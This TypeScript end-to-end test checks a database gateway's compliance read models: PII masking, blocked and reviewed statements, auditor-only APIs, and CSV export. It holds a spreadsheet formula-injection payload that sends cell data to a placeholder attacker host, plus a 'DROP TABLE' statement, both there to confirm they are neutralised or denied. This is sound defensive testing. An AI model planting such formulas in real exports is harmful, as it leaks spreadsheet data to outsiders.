/**
 * The compliance read models as a compliance team uses them: real psql
 * sessions of a service principal through `portcullis serve` (a real OIDC
 * provider, a real PostgreSQL upstream holding PII) — allowed and masked,
 * denied, reviewed and granted, reviewed and denied — then the REST API as
 * an auditor: filters, cursor pages, CSV that parses and holds no unmasked
 * value, 403 for a non-auditor. Then, with the gateway stopped,
 * `portcullis projections rebuild` gives tables with the same row checksums
 * as the ones built live. On both SQL stores (PostgreSQL and PGlite).
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import {
  freePort,
  grantingPolicyBundle,
  postgresBinDir,
  startOidcProvider,
  startPostgres,
  serveConfigYaml,
  startServe,
  tempDir,
  PORTCULLIS_BIN,
  type OidcProvider,
  type PostgresServer,
  type ServeProcess,
  type TempDir,
} from '@portcullis/test-support';

const psqlBin = join(postgresBinDir(), 'psql');
const AGENT = 'billing-agent';
const APPROVER = 'dba-approver';
const AUDITOR = 'compliance-auditor';

/** What the upstream holds and no read model may show: IBANs (a masked column), and PII in free text. */
const SECRETS = [
  'DE89370400440532013000',
  'GB82WEST12345698765432',
  'ada@example.com',
  '078-05-1120',
  '4111 1111 1111 1111',
];
const FORMULA = '=HYPERLINK("http://evil.example/"&A1)';

interface Command {
  position: string;
  sessionId: string;
  text: string;
  outcome: string | null;
  status: string;
  approvalId: string | null;
  subject: string | null;
  targetName: string | null;
  maskedValues: number;
  masks: { column: string; method: string; count: number; detector?: string }[];
}
interface Identity {
  subject: string;
  sessions: number;
  commands: number;
  denials: number;
  reviews: number;
  maskedValues: number;
  targets: { targetName: string }[];
}
interface Page<T> {
  items: T[];
  next: string | null;
}

describe('compliance read models through portcullis serve', () => {
  let dir: TempDir;
  let upstream: PostgresServer;
  let oidc: OidcProvider;
  let bundle: string;

  const sql = (statement: string, database = 'postgres') =>
    execFileSync(psqlBin, [upstream.url(database), '-Atc', statement])
      .toString()
      .trim();

  before(async () => {
    dir = await tempDir('portcullis-compliance-e2e-');
    [upstream, oidc] = await Promise.all([
      startPostgres(),
      startOidcProvider({
        clients: [
          { clientId: AGENT },
          { clientId: APPROVER, groups: ['dba-oncall'] },
          { clientId: AUDITOR, groups: ['auditors'] },
        ],
      }),
    ]);
    sql('CREATE DATABASE portcullis');
    sql(`CREATE TABLE public.payments (id int PRIMARY KEY, owner text, iban text, note text)`);
    sql(`INSERT INTO public.payments VALUES
           (1, 'Ada', 'DE89370400440532013000', 'mail ada@example.com'),
           (2, 'Alan', 'GB82WEST12345698765432', 'SSN 078-05-1120 on file'),
           (3, 'Grace', 'FR1420041010050500013M02606', 'card 4111 1111 1111 1111')`);
    bundle = await grantingPolicyBundle(dir.path, {
      issuer: oidc.issuer,
      appIds: [AGENT],
      targetLabels: [{ env: ['production'], kind: ['database'] }],
      reviewTtlSeconds: 120,
    });
  });

  after(async () => {
    await oidc?.stop();
    await upstream?.stop();
    await dir?.remove();
  });

  for (const kind of ['postgres', 'pglite'] as const) {
    describe(`${kind} store`, () => {
      let serve: ServeProcess | undefined;
      let api: string;
      let proxyPort: number;
      let config: string;
      let startedAt: string;

      before(async () => {
        const apiPort = await freePort();
        proxyPort = await freePort();
        config = join(dir.path, `portcullis-${kind}.yaml`);
        await writeFile(
          config,
          serveConfigYaml({
            instance: `gw-${kind}`,
            apiPort,
            api: 'auditorGroups: [auditors]',
            store:
              kind === 'postgres'
                ? `{ kind: postgres, url: "${upstream.url('portcullis')}" }`
                : `{ kind: pglite, dataDir: "${join(dir.path, 'pglite-data')}" }`,
            policy: `{ bundle: ${bundle} }`,
            issuer: oidc,
            target: { listenPort: proxyPort, upstreamPort: upstream.port },
          }),
        );
        api = `http://127.0.0.1:${apiPort}`;
        startedAt = new Date().toISOString();
        serve = await startServe(config);
      });
      after(async () => {
        await serve?.stop('SIGKILL');
      });

      async function get(path: string, client = AUDITOR, headers: Record<string, string> = {}) {
        return fetch(`${api}${path}`, {
          headers: { authorization: `Bearer ${await oidc.issueToken(client)}`, ...headers },
        });
      }
      async function json<T>(path: string): Promise<T> {
        const response = await get(path);
        assert.equal(response.status, 200, `${path}: ${await response.clone().text()}`);
        return (await response.json()) as T;
      }
      async function agent(statement: string) {
        const env = { ...process.env, PGPASSWORD: await oidc.issueToken(AGENT) };
        const conn = `host=127.0.0.1 port=${proxyPort} dbname=prod-db user=agent sslmode=disable`;
        return promisify(execFile)(psqlBin, [conn, '-Atc', statement], { env, timeout: 60_000 }).then(
          ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
          (e: { code: number; stdout: string; stderr: string }) => ({
            code: e.code,
            stdout: e.stdout,
            stderr: e.stderr,
          }),
        );
      }
      /** A statement that waits for review, decided through the approvals API. */
      async function reviewed(statement: string, decision: 'grant' | 'deny') {
        const running = agent(statement);
        let id: string | undefined;
        for (let i = 0; i < 300 && !id; i++) {
          const response = await get('/api/approvals?status=pending', APPROVER);
          const body = (await response.json()) as Page<{ approvalId: string; text: string }>;
          id = body.items.find((a) => a.text === statement)?.approvalId;
          if (!id) await new Promise((r) => setTimeout(r, 50));
        }
        assert.ok(id, `no pending approval for ${statement}`);
        const decided = await fetch(`${api}/api/approvals/${id}/${decision}`, {
          method: 'POST',
          headers: { authorization: `Bearer ${await oidc.issueToken(APPROVER)}` },
        });
        assert.equal(decided.status, 200, await decided.text());
        return { result: await running, approvalId: id };
      }
      async function until<T>(what: string, read: () => Promise<T>, ok: (value: T) => boolean): Promise<T> {
        let last: T | undefined;
        for (let i = 0; i < 400; i++) {
          last = await read();
          if (ok(last)) return last;
          await new Promise((r) => setTimeout(r, 50));
        }
        assert.fail(`${what}: ${JSON.stringify(last)}`);
      }
      async function walk<T extends { position: string }>(path: string, limit: number): Promise<T[]> {
        const items: T[] = [];
        let cursor: string | null = null;
        let pages = 0;
        do {
          const sep = path.includes('?') ? '&' : '?';
          const page: Page<T> = await json<Page<T>>(
            `${path}${sep}limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
          );
          assert.ok(page.items.length <= limit);
          items.push(...page.items);
          cursor = page.next;
          assert.ok(++pages < 100, 'the cursor ends');
        } while (cursor);
        return items;
      }

      /** After the warm-up: the statements the assertions count. */
      let mark: string;
      let baseline: Identity;

      it('records allowed, masked, denied and reviewed statements as commands', async () => {
        // The first evaluations after a start can exceed the policy's time budget on a loaded
        // machine (and are denied for it): warm up, and count only what comes after.
        let warmups = 0;
        for (let ok = false; !ok && warmups < 5; warmups++) ok = (await agent('SELECT 1')).code === 0;
        baseline = (await until(
          'the warm-up projected',
          async () => (await json<Page<Identity>>(`/api/identities?identity=${AGENT}`)).items[0],
          (i) => i?.commands === warmups && i.sessions === warmups,
        ))!;
        await until(
          'the warm-up commands projected',
          () => json<Page<Command>>(`/api/commands?identity=${AGENT}&limit=500`),
          (p) => p.items.length === warmups && p.items.every((c) => c.status !== 'received'),
        );
        mark = new Date().toISOString();
        const read = await agent('SELECT id, owner, iban, note FROM payments ORDER BY id');
        assert.equal(read.code, 0, read.stderr);
        for (const secret of SECRETS) assert.ok(!read.stdout.includes(secret), `${secret} came through`);
        const drop = await agent('DROP TABLE payments');
        assert.notEqual(drop.code, 0);
        const formula = await agent(FORMULA);
        assert.notEqual(formula.code, 0);
        const granted = await reviewed(`CREATE TABLE public.granted_${kind} (id int)`, 'grant');
        assert.equal(granted.result.code, 0, granted.result.stderr);
        const refused = await reviewed(`CREATE TABLE public.refused_${kind} (id int)`, 'deny');
        assert.notEqual(refused.result.code, 0);

        const commands = await until(
          'all five commands settled',
          () => json<Page<Command>>(`/api/commands?identity=${AGENT}&from=${mark}&limit=500`),
          (p) =>
            p.items.length === 5 && p.items.every((c) => c.status !== 'received' && c.status !== 'forwarded'),
        );
        const byText = new Map(commands.items.map((c) => [c.text, c]));
        const select = byText.get('SELECT id, owner, iban, note FROM payments ORDER BY id')!;
        assert.deepEqual(
          [select.outcome, select.status, select.subject, select.targetName],
          ['allow', 'completed', AGENT, 'prod-db'],
        );
        assert.ok(
          select.masks.some(
            (m) => m.column === 'public.payments.iban' && m.method === 'partial' && m.count === 3,
          ),
          JSON.stringify(select.masks),
        );
        assert.ok(
          select.masks.some((m) => m.detector),
          'free-text detector hits',
        );
        assert.deepEqual(
          [byText.get('DROP TABLE payments')?.outcome, byText.get('DROP TABLE payments')?.status],
          ['deny', 'blocked'],
        );
        const grantedRow = byText.get(`CREATE TABLE public.granted_${kind} (id int)`)!;
        assert.deepEqual(
          [grantedRow.outcome, grantedRow.status, grantedRow.approvalId],
          ['allow', 'completed', granted.approvalId],
        );
        const refusedRow = byText.get(`CREATE TABLE public.refused_${kind} (id int)`)!;
        assert.deepEqual(
          [refusedRow.outcome, refusedRow.status, refusedRow.approvalId],
          ['deny', 'blocked', refused.approvalId],
        );

        const denied = await json<Page<Command>>(`/api/commands?identity=${AGENT}&outcome=deny&from=${mark}`);
        assert.deepEqual(
          denied.items.map((c) => c.text).sort(),
          ['DROP TABLE payments', FORMULA, `CREATE TABLE public.refused_${kind} (id int)`].sort(),
        );
        assert.equal(
          (await json<Page<Command>>(`/api/commands?target=prod-db&from=${mark}&limit=500`)).items.length,
          5,
        );
        assert.equal((await json<Page<Command>>(`/api/commands?target=elsewhere`)).items.length, 0);
        assert.equal(
          (await json<Page<Command>>(`/api/commands?to=${startedAt}`)).items.length,
          0,
          'none before',
        );
        assert.equal(
          (await json<Page<Command>>(`/api/commands?from=${startedAt}&limit=500`)).items.length,
          5 + warmups,
        );
        assert.equal((await json<Page<Command>>(`/api/commands?identity=someone-else`)).items.length, 0);

        const walked = await walk<Command>(`/api/commands?identity=${AGENT}&from=${mark}`, 2);
        assert.deepEqual(
          walked.map((c) => c.position),
          commands.items.map((c) => c.position),
          'pages of 2 give every row once, in order',
        );
        const bad = await get('/api/commands?cursor=not-a-cursor');
        assert.equal(bad.status, 400);
      });

      it('answers per identity, per sensitive access and per approver group', async () => {
        const me = await until(
          'the identity counted',
          async () => (await json<Page<Identity>>(`/api/identities?identity=${AGENT}`)).items[0],
          (i) => i?.commands === baseline.commands + 5 && i.denials === baseline.denials + 3,
        );
        assert.deepEqual(
          [
            me!.subject,
            me!.sessions - baseline.sessions,
            me!.reviews - baseline.reviews,
            me!.targets.map((t) => t.targetName),
          ],
          [AGENT, 5, 2, ['prod-db']],
        );
        assert.ok(me!.maskedValues >= 3);
        assert.equal((await json<Page<Identity>>(`/api/identities?target=elsewhere`)).items.length, 0);
        assert.equal((await json<Page<Identity>>(`/api/identities?to=${startedAt}`)).items.length, 0);

        const access = await walk<{
          position: string;
          column: string;
          count: number;
          subject: string;
          targetName: string;
          detector: string | null;
        }>(`/api/sensitive-access?identity=${AGENT}`, 1);
        assert.ok(access.length >= 2, JSON.stringify(access));
        assert.ok(access.every((a) => a.subject === AGENT && a.targetName === 'prod-db'));
        assert.ok(access.some((a) => a.column === 'public.payments.iban' && a.count === 3));
        assert.ok(access.some((a) => a.detector !== null));
        const onlyIban = await json<Page<{ column: string }>>(
          `/api/sensitive-access?column=public.payments.iban`,
        );
        assert.deepEqual(
          onlyIban.items.map((a) => a.column),
          ['public.payments.iban'],
        );

        const levels = await json<{
          items: {
            approverGroup: string;
            targetName: string;
            requested: number;
            granted: number;
            denied: number;
            p50Ms: number | null;
          }[];
        }>('/api/approval-service-levels?group=dba-oncall&target=prod-db');
        assert.equal(levels.items.length, 1);
        const [level] = levels.items;
        assert.deepEqual([level!.requested, level!.granted, level!.denied], [2, 1, 1]);
        assert.ok(level!.p50Ms !== null && level!.p50Ms > 0);
      });

      it('exports CSV that parses, holds no unmasked value and neutralises formulas', async () => {
        for (const path of [
          '/api/commands',
          '/api/identities',
          '/api/sensitive-access',
          '/api/approval-service-levels',
        ]) {
          const response = await get(`${path}?format=csv${path === '/api/commands' ? `&from=${mark}` : ''}`);
          assert.equal(response.status, 200, path);
          assert.match(response.headers.get('content-type') ?? '', /^text\/csv/);
          const text = await response.text();
          for (const secret of SECRETS) assert.ok(!text.includes(secret), `${path}: ${secret} in the CSV`);
          const rows = parse(text, { columns: true }) as Record<string, string>[];
          assert.ok(rows.length > 0, `${path}: rows`);
          if (path === '/api/commands') {
            assert.equal(rows.length, 5);
            const cells = rows.flatMap((r) => Object.values(r));
            assert.ok(cells.includes(`'${FORMULA}`), 'the formula is prefixed with a quote');
            assert.ok(!cells.some((c) => /^[=+\-@]/.test(c)), 'no cell starts a formula');
            const byAccept = await get(`${path}?from=${mark}`, AUDITOR, { accept: 'text/csv' });
            assert.equal(byAccept.status, 200);
            assert.match(byAccept.headers.get('content-type') ?? '', /^text\/csv/);
            assert.equal(await byAccept.text(), text);
          }
        }
        const asJson = await (await get('/api/commands?format=json&limit=500')).text();
        for (const secret of SECRETS) assert.ok(!asJson.includes(secret), `${secret} in the JSON`);
      });

      it('is for auditors only', async () => {
        for (const path of [
          '/api/commands',
          '/api/identities',
          '/api/sensitive-access',
          '/api/approval-service-levels',
        ]) {
          const approver = await get(path, APPROVER);
          assert.equal(approver.status, 403, path);
          assert.equal(((await approver.json()) as { reason?: string }).reason, 'not_an_auditor');
          const agentCall = await get(`${path}?format=csv`, AGENT);
          assert.equal(agentCall.status, 403, path);
          const anonymous = await fetch(`${api}${path}`);
          assert.equal(anonymous.status, 401, path);
        }
      });

      it('portcullis projections rebuild gives the tables built live, row for row', async () => {
        await serve!.stop('SIGTERM');
        serve = undefined;
        const cli = (...args: string[]) => {
          const out = execFileSync(
            process.execPath,
            [PORTCULLIS_BIN, 'projections', ...args, '--config', config],
            {
              encoding: 'utf8',
            },
          );
          return out;
        };
        const liveTables = JSON.parse(cli('list', '--checksums', '--json')) as {
          name: string;
          checkpoint: string | null;
          tables: { rows: number }[];
        }[];
        assert.deepEqual(
          liveTables.map((p) => p.name),
          ['sessions', 'approvals', 'commands', 'identities', 'sensitive_access'],
        );
        assert.ok(liveTables.every((p) => p.checkpoint !== null && p.tables.some((t) => t.rows > 0)));
        assert.match(cli('rebuild'), /rebuilt sensitive_access: \d+ events applied/);
        assert.deepEqual(JSON.parse(cli('list', '--checksums', '--json')), liveTables);
        assert.match(
          cli('rebuild', 'commands'),
          /^rebuilt commands: \d+ events applied, checkpoint \d+\/\d+\n$/,
        );
        assert.deepEqual(JSON.parse(cli('list', '--checksums', '--json')), liveTables);
      });
    });
  }
});
